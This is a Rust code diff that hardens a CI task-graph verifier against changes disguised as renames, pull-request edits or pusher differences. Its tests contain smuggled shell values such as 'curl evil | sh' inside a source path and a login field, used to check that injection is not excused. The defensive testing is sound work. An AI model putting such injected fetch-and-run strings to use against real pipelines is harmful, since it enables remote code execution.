@@ -4,7 +4,7 @@
 
 use catena_jsone::Value;
 
-use crate::checks::{cot_run, graph_match, graph_member};
+use crate::checks::{cot_run, graph_member};
 use crate::policy::QueueMember;
 use crate::report::{Asserter, Finding, Flow, Pattern, Purpose};
 use crate::walk::{Chain, Object};
@@ -96,14 +96,25 @@ impl Clue<'_> {
 
     fn is_kind(&self) -> bool {
         let named = ["/metadata/name", "/tags/kind", "/tags/label"].contains(&self.pointer);
+        // elsewhere a folder may be part of a command
+        let is_source = self.pointer == "/metadata/source";
         self.texts().is_some_and(|(a, b)| {
-            named || (without_kind(a).is_some() && without_kind(a) == without_kind(b))
+            let renamed = || without_kind(a).is_some() && without_kind(a) == without_kind(b);
+            named || (is_source && renamed())
         })
     }
 
     fn is_of_pull_request(&self) -> bool {
-        self.values()
-            .any(|flow| flow.source.request.starts_with("pull-request "))
+        let mut moved = self.values().filter(|flow| {
+            flow.source.request.starts_with("pull-request ") && may_move(&flow.name)
+        });
+        match self.texts() {
+            Some((expected, found)) => moved.any(|flow| {
+                let value = flow.value.trim_matches('"');
+                replaced(expected, found, value).next().is_some()
+            }),
+            None => self.expected.is_some() && moved.next().is_some(),
+        }
     }
 
     fn is_who_pushed(&self) -> bool {
@@ -116,7 +127,7 @@ impl Clue<'_> {
                     "push.owner" => asked.starts_with("pushlog "),
                     _ => false,
                 };
-                is_guess && differ_in(expected, found, who)
+                is_guess && replaced(expected, found, who).any(is_who)
             })
         })
     }
@@ -128,12 +139,13 @@ impl Clue<'_> {
     }
 }
 
-/// Returns the pattern of a finding that a rerun of its parent explains.
+/// Returns the pattern of a finding that a rerun of its parent explains. A task that is in the last run's graph and
+/// differs from it is not of an earlier run: each run gives its tasks ids of their own.
 pub(crate) fn of_rerun(finding: &Finding, chain: &Chain<'_>) -> Option<Pattern> {
     let object = chain.get(finding.task?)?;
     let parent = if finding.id == cot_run::META.id {
         Some(object).filter(|object| object.is_parent())
-    } else if [graph_match::META.id, graph_member::META.id].contains(&finding.id) {
+    } else if finding.id == graph_member::META.id {
         object.parent.and_then(|parent| chain.get(parent))
     } else {
         None
@@ -178,18 +190,36 @@ fn without_kind(text: &str) -> Option<(&str, &str)> {
         .find_map(|folder| {
             let (before, after) = text.split_once(folder)?;
             let end = after.find('/').unwrap_or(after.len());
-            Some((before, after.get(end..)?))
+            let kind = after.get(..end)?;
+            let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
+            (!kind.is_empty() && kind.chars().all(is_plain)).then_some((before, after.get(end..)?))
         })
 }
 
-/// Returns whether another text in the place of `part` makes `b` from `a`.
-fn differ_in(a: &str, b: &str, part: &str) -> bool {
-    !part.is_empty()
-        && a.match_indices(part).any(|(at, _)| {
-            let (before, rest) = a.split_at(at);
-            let after = rest.get(part.len()..).unwrap_or_default();
-            b.strip_prefix(before)
-                .is_some_and(|b| b.len() > after.len() && b.ends_with(after))
+/// Returns the texts that make `b` from `a` when they stand in the place of `part`.
+fn replaced<'b>(a: &'b str, b: &'b str, part: &'b str) -> impl Iterator<Item = &'b str> {
+    let places = a.match_indices(part).filter(|_| !part.is_empty());
+    places.filter_map(move |(at, _)| {
+        let (before, rest) = a.split_at(at);
+        let after = rest.get(part.len()..).unwrap_or_default();
+        let other = b.strip_prefix(before)?.strip_suffix(after)?;
+        (!other.is_empty()).then_some(other)
+    })
+}
+
+/// Returns whether a text can be the login or the address of somebody, and so no part of a command.
+fn is_who(text: &str) -> bool {
+    text.bytes()
+        .all(|byte| byte.is_ascii_alphanumeric() || b"-_.+@[]".contains(&byte))
+}
+
+/// Returns whether a name of the context is one that people can change in an open pull request; its number, its author
+/// and its repositories stay.
+fn may_move(name: &str) -> bool {
+    name.strip_prefix("event.pull_request.")
+        .is_some_and(|name| {
+            let mut steps = name.split('.');
+            !steps.any(|step| matches!(step, "id" | "number" | "repo" | "user"))
         })
 }
 
@@ -276,6 +306,10 @@ mod tests {
         let elsewhere = source("kinds/compile/y");
         assert_eq!(id("/metadata/source", &old, &elsewhere, &[]), None);
         assert_eq!(id("/payload/command/0", "build", "compile", &[]), None);
+        // what runs was not renamed, and a name has no commands in it
+        assert_eq!(id("/payload/command/0", &old, &new, &[]), None);
+        let command = source("kinds/x; curl evil | sh; cd /x");
+        assert_eq!(id("/metadata/source", &old, &command, &[]), None);
     }
 
     #[test]
@@ -296,12 +330,37 @@ mod tests {
     }
 
     #[test]
+    fn what_a_pull_request_cannot_change_has_not_moved() {
+        let of = |name: &str, value: &str, a: &str, b: &str| {
+            let flow = flow(name, value, "pull-request https://h 7");
+            id("/payload/command/0", a, b, &[flow])
+        };
+        let title = "event.pull_request.title";
+        assert_eq!(
+            of(title, "a b", "--say=a b -x", "--say=c d -x"),
+            Some("pull-request-moved")
+        );
+        // another part of the same text
+        assert_eq!(of(title, "a b", "--say=a b -x", "--say=a b -y"), None);
+        for name in [
+            "event.pull_request.number",
+            "event.pull_request.head.repo.html_url",
+            "event.pull_request.user.login",
+            "event.repository.name",
+            "event.sender.login",
+        ] {
+            assert_eq!(of(name, "x", "--of=x", "--of=evil"), None, "{name}");
+        }
+    }
+
+    #[test]
     fn who_pushed() {
         let login = flow("event.sender.login", "web-dev", "commit https://h 0f");
         let of = |a: &str, b: &str| id("/metadata/owner", a, b, std::slice::from_ref(&login));
         assert_eq!(of("web-dev@x", "a-bot[bot]@x"), Some("merge-bot"));
         assert_eq!(of("web-dev@x", "web-dev@y"), None);
         assert_eq!(of("web-dev@x", "@x"), None);
+        assert_eq!(of("--by=web-dev -x", "--by=me; curl evil | sh; -x"), None);
         let schedule = flow("event.sender.login", "web-dev", "definition x");
         assert_eq!(id("/metadata/owner", "web-dev", "z", &[schedule]), None);
         let owner = flow("push.owner", "s@x", "pushlog https://h 0f");
